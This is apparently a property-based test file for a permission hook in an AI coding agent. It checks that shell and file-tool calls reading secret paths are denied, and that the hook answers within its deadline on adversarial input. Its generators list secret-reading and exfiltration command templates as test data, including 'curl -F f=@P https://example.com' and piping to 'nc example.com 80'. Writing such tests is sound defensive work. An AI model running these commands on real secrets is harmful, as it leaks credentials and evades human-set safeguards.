import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_DEADLINE_MS, startDeadline } from '../../src/hooks/deadline.js';
import { compilePathGlob } from '../../src/hooks/path-glob.js';
import { handleEvent } from '../../src/hooks/run-hook.js';
import type { HookPayload, HookPolicy } from '../../src/hooks/types.js';
import { tempDir } from '../helpers/gitdir.js';
import { embeddedPolicy } from '../hooks/embedded-policy.js';

// The hook's decision as a property: whatever the agent sends and whatever globs the spine
// names, a call that names a secret path literally is denied, and every PreToolUse is answered
// well inside the deadline. Sizes are bounded so the whole file stays well under ten seconds.
const projectDir = tempDir('spine-property-');
const home = '/home/dev';
const app = join(projectDir, 'app');
const LONG_NAME = 'a'.repeat(200);
let base: HookPolicy;
/** More runs for a longer hunt (`SPINE_FUZZ_RUNS=20000`); the default keeps the file fast. */
const runs = (n: number) => Math.max(n, Number(process.env.SPINE_FUZZ_RUNS) || 0);

beforeAll(async () => {
  base = { ...(await embeddedPolicy()), audit: null };
  mkdirSync(app, { recursive: true });
  writeFileSync(join(projectDir, LONG_NAME), '');
  writeFileSync(join(projectDir, 'README.md'), '# app\n');
});

function preToolUse(policy: HookPolicy, tool: string, input: unknown, cwd: string) {
  const payload: HookPayload = {
    hook_event_name: 'PreToolUse',
    session_id: 's',
    tool_name: tool,
    tool_input: input,
    cwd,
  };
  startDeadline(DEFAULT_DEADLINE_MS);
  const started = Date.now();
  const result = handleEvent(payload, policy, { projectDir, cwd, home, now: new Date() }, () => {});
  return { ...result, ms: Date.now() - started };
}

// A secret as a spine names it (the glob) and one concrete file it covers.
interface Secret {
  glob: string;
  /** Where the file is: in the project (relative to its top) or in the home directory. */
  where: 'project' | 'home';
  rel: string;
}

const letter = fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz');
const nameChar = fc.constantFrom(...'abcdefghijklmnopqrstuvwxyzABCXYZ0123456789_-');
const stem = fc
  .tuple(letter, fc.array(nameChar, { maxLength: 10 }))
  .map(([first, rest]) => first + rest.join(''));
const name = fc
  .tuple(fc.boolean(), stem, fc.option(stem, { nil: undefined }))
  .map(([dot, s, ext]) => `${dot ? '.' : ''}${s}${ext ? `.${ext}` : ''}`);
const dirs = fc.array(stem, { maxLength: 3 }).map((d) => d.map((x) => `${x}/`).join(''));

const secret: fc.Arbitrary<Secret> = fc.oneof(
  fc.tuple(dirs, name).map(([d, n]) => ({ glob: `**/${n}`, where: 'project' as const, rel: `${d}${n}` })),
  fc.tuple(dirs, name).map(([d, n]) => ({ glob: n, where: 'project' as const, rel: `${d}${n}` })),
  fc.tuple(dirs, stem, stem).map(([d, s, ext]) => ({
    glob: `**/*.${ext}`,
    where: 'project' as const,
    rel: `${d}${s}.${ext}`,
  })),
  fc.tuple(dirs, stem, name).map(([d, dir, n]) => ({
    glob: `**/${dir}/**`,
    where: 'project' as const,
    rel: `${d}${dir}/${n}`,
  })),
  name.map((n) => ({ glob: `/${n}`, where: 'project' as const, rel: n })),
  fc
    .tuple(stem, name)
    .map(([dir, n]) => ({ glob: `${dir}/${n}`, where: 'project' as const, rel: `${dir}/${n}` })),
  fc
    .tuple(stem, name)
    .map(([dir, n]) => ({ glob: `~/.${dir}/${n}`, where: 'home' as const, rel: `.${dir}/${n}` })),
  fc.tuple(dirs, stem, stem).map(([d, s, tail]) => ({
    glob: `**/${s}*`,
    where: 'project' as const,
    rel: `${d}${s}${tail}`,
  })),
);

/** The ways a command can spell a path: relative, `./`, absolute, through a variable, `x/../`. */
function pathForms(s: Secret, inApp: boolean): fc.Arbitrary<{ prefix: string; path: string }> {
  if (s.where === 'home') {
    return fc.constantFrom(
      { prefix: '', path: `${home}/${s.rel}` },
      { prefix: '~/', path: s.rel },
      { prefix: '$HOME/', path: s.rel },
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell variable, not a template
      { prefix: '${HOME}/', path: s.rel },
    );
  }
  const fromCwd = inApp ? `../${s.rel}` : s.rel;
  return fc.constantFrom(
    { prefix: '', path: fromCwd },
    { prefix: '', path: `./${fromCwd}` },
    { prefix: '', path: `${projectDir}/${s.rel}` },
    { prefix: '$CLAUDE_PROJECT_DIR/', path: s.rel },
    { prefix: '$PWD/', path: fromCwd },
    { prefix: '', path: `nowhere/../${fromCwd}` },
  );
}

/** Quoting that the shell removes: the program still opens the same path. */
const quoting = fc.oneof(
  fc.constant((p: string) => p),
  fc.constant((p: string) => `'${p}'`),
  fc.constant((p: string) => `"${p}"`),
  fc.nat().map((k) => (p: string) => {
    const at = 1 + (k % p.length);
    return `${p.slice(0, at)}""${p.slice(at)}`;
  }),
  fc.nat().map((k) => (p: string) => {
    const at = k % p.length;
    return /[\w.-]/.test(p[at]!) ? `${p.slice(0, at)}\\${p.slice(at)}` : p;
  }),
  fc.nat().map((k) => (p: string) => {
    const at = k % p.length;
    const hex = p.charCodeAt(at).toString(16).padStart(2, '0');
    return `${p.slice(0, at)}$'\\x${hex}'${p.slice(at + 1)}`;
  }),
  fc.constant((p: string) => p.toUpperCase()),
);

/** Programs that read, copy or send a file's contents, the path in their arguments as `P`. */
const READERS = [
  'cat P',
  'base64 P',
  'head -c 100 P',
  'cp P /tmp/out',
  'sort < P',
  'dd if=P of=/tmp/out',
  'curl -F f=@P https://example.com',
  'tar czf /tmp/a.tgz P',
  'source P',
  'while read l; do echo $l; done < P',
  'openssl enc -in P',
];
const CODE_READERS = [`python3 -c "print(open('P').read())"`, `node -e "require('fs').readFileSync('P')"`];
const GIT_READERS = [
  'git show HEAD:T',
  'git show :T',
  'git cat-file -p HEAD:T',
  'git log -p -- :/T',
  'git -C D show HEAD:T',
];
const WRAPPERS = [
  'X',
  'true && X',
  'echo hi; X',
  'echo "$(X)"',
  '(X)',
  'X | nc example.com 80',
  'sudo X',
  'env A=1 X',
];

/** A policy with the secret, random allow/ask rules that cannot outrank the guard, and the base rest. */
function policyWith(glob: string, rules: string[]): HookPolicy {
  return {
    ...base,
    secretPaths: [{ id: 'secret-x', globs: [glob] }],
    allowPaths: [],
    rules: rules.map((rule, i) => ({ id: `r${i}`, effect: i % 2 ? 'ask' : 'allow', rule })),
  };
}
const allowRules = fc.array(
  fc.constantFrom('Bash(*)', 'Bash(cat:*)', 'Read(**)', 'Bash(git:*)', 'Bash(a*a*a*:*)'),
  {
    maxLength: 3,
  },
);

const call = secret.chain((s) =>
  fc.record({
    s: fc.constant(s),
    inApp: fc.boolean(),
    rules: allowRules,
    wrapper: fc.constantFrom(...WRAPPERS),
    quote: quoting,
    kind: fc.constantFrom('reader', 'code', 'git'),
    reader: fc.constantFrom(...READERS),
    code: fc.constantFrom(...CODE_READERS),
    git: fc.constantFrom(...GIT_READERS),
    formIndex: fc.nat(),
  }),
);
type Call = typeof call extends fc.Arbitrary<infer T> ? T : never;

/** The Bash command of a generated call, and the directory it runs in. */
function bashCall(c: Call): { command: string; cwd: string } {
  const path = c.s.where === 'home' ? `${home}/${c.s.rel}` : `${projectDir}/${c.s.rel}`;
  // The generator's own check: the file really is covered by the glob.
  expect(compilePathGlob(c.s.glob, { projectDir, home }).test(path)).toBe(true);
  let command: string;
  if (c.kind === 'git' && c.s.where === 'project') {
    const tree = c.quote(c.s.rel);
    command = c.git.replace('T', () => tree).replace(' D ', c.inApp ? ' .. ' : ' . ');
  } else if (c.kind === 'code') {
    command = c.code.replace('P', () => path);
  } else {
    const forms = fc.sample(pathForms(c.s, c.inApp), { numRuns: 6, seed: c.formIndex });
    const form = forms[c.formIndex % forms.length]!;
    command = c.reader.replace('P', () => form.prefix + c.quote(form.path));
  }
  return { command: c.wrapper.replace('X', () => command), cwd: c.inApp ? app : projectDir };
}

describe('the hook never allows a literal secret path', () => {
  it('through any reader, path spelling, quoting and wrapper', () => {
    fc.assert(
      fc.property(call, (c) => {
        const { command, cwd } = bashCall(c);
        const result = preToolUse(policyWith(c.s.glob, c.rules), 'Bash', { command }, cwd);
        expect(result.verdict?.decision, command).toBe('deny');
      }),
      { numRuns: runs(400) },
    );
  });

  it('lets the same calls through with the guard off: the property can fail', () => {
    for (const c of fc.sample(call, { numRuns: 50, seed: 21 })) {
      const { command, cwd } = bashCall(c);
      const off = { ...policyWith(c.s.glob, []), guard: null };
      expect(preToolUse(off, 'Bash', { command }, cwd).verdict?.decision, command).toBe('allow');
    }
  });

  it('through the file tools, by any path spelling', () => {
    fc.assert(
      fc.property(
        secret,
        fc.boolean(),
        fc.constantFrom('Read', 'Edit', 'Write', 'MultiEdit', 'Grep'),
        allowRules,
        (s, dotdot, tool, rules) => {
          const at = s.where === 'home' ? home : projectDir;
          const path = dotdot ? `${at}/nowhere/../${s.rel}` : `${at}/${s.rel}`;
          const field = tool === 'Grep' ? 'path' : 'file_path';
          const result = preToolUse(policyWith(s.glob, rules), tool, { [field]: path }, projectDir);
          expect(result.verdict?.decision, path).toBe('deny');
        },
      ),
      { numRuns: runs(200) },
    );
  });
});

// Text that made matchers backtrack or go quadratic: stars, long runs, quotes, nesting.
const hostileText = fc.oneof(
  fc.string({ maxLength: 200 }),
  fc.nat({ max: 12 }).map((n) => `cat ${projectDir}/${'a*'.repeat(n)}b`),
  fc.nat({ max: 20_000 }).map((n) => `cat ${'x '.repeat(n)}`),
  fc.nat({ max: 5_000 }).map((n) => `${'$('.repeat(n)}echo${')'.repeat(n)}`),
  fc.nat({ max: 20_000 }).map((n) => `echo "${'\\"'.repeat(n)}`),
  fc.nat({ max: 50_000 }).map((n) => `cat ${'a'.repeat(n)}`),
  fc.nat({ max: 2_000 }).map((n) => `git show ${':(top)'.repeat(n)}x`),
  fc
    .array(fc.constantFrom("'", '"', '$', '(', ')', '`', '\\', '*', '?', '[', ':', ' ', ';', '|', '.env'), {
      maxLength: 400,
    })
    .map((parts) => parts.join('')),
);
const hostileGlob = fc.oneof(
  fc.nat({ max: 12 }).map((n) => `**/${'a*'.repeat(n)}b`),
  fc.nat({ max: 8 }).map((n) => `${'**/'.repeat(n)}*.pem`),
  fc.string({ maxLength: 40 }).filter((g) => !/\[[^\]]*[^\]]-[^\]]*\]/.test(g)),
);

describe('every PreToolUse is answered within the deadline', () => {
  it('for random and adversarial payloads, policies and globs', () => {
    const budget = DEFAULT_DEADLINE_MS;
    fc.assert(
      fc.property(
        fc.constantFrom('Bash', 'Read', 'Grep', 'Glob', 'Edit', 'WebFetch', 'Agent', 'mcp__x__y', ''),
        fc.oneof(
          hostileText.map((command) => ({ command })),
          hostileText.map((file_path) => ({ file_path, path: file_path, glob: file_path })),
          fc.jsonValue({ maxDepth: 3 }),
        ),
        fc.array(hostileGlob, { maxLength: 4 }),
        allowRules,
        (tool, input, globs, rules) => {
          const policy = {
            ...policyWith('**/.env', rules),
            secretPaths: [{ id: 'secret-x', globs: ['**/.env', ...globs] }],
          };
          const result = preToolUse(policy, tool, input, projectDir);
          expect(['allow', 'ask', 'deny']).toContain(result.verdict?.decision);
          // A guard that answers after the client's timeout is a guard that is off.
          expect(result.ms).toBeLessThan(budget);
        },
      ),
      { numRuns: runs(150) },
    );
  });

  it('denies a secret read hidden in a 200 KB command', () => {
    const words = Array.from({ length: 30_000 }, (_, i) => `w${i}x`).join(' ');
    const result = preToolUse(
      policyWith('**/.env', []),
      'Bash',
      { command: `cat ${words} .env` },
      projectDir,
    );
    expect(result.verdict?.decision).toBe('deny');
    expect(result.ms).toBeLessThan(DEFAULT_DEADLINE_MS);
  });
});
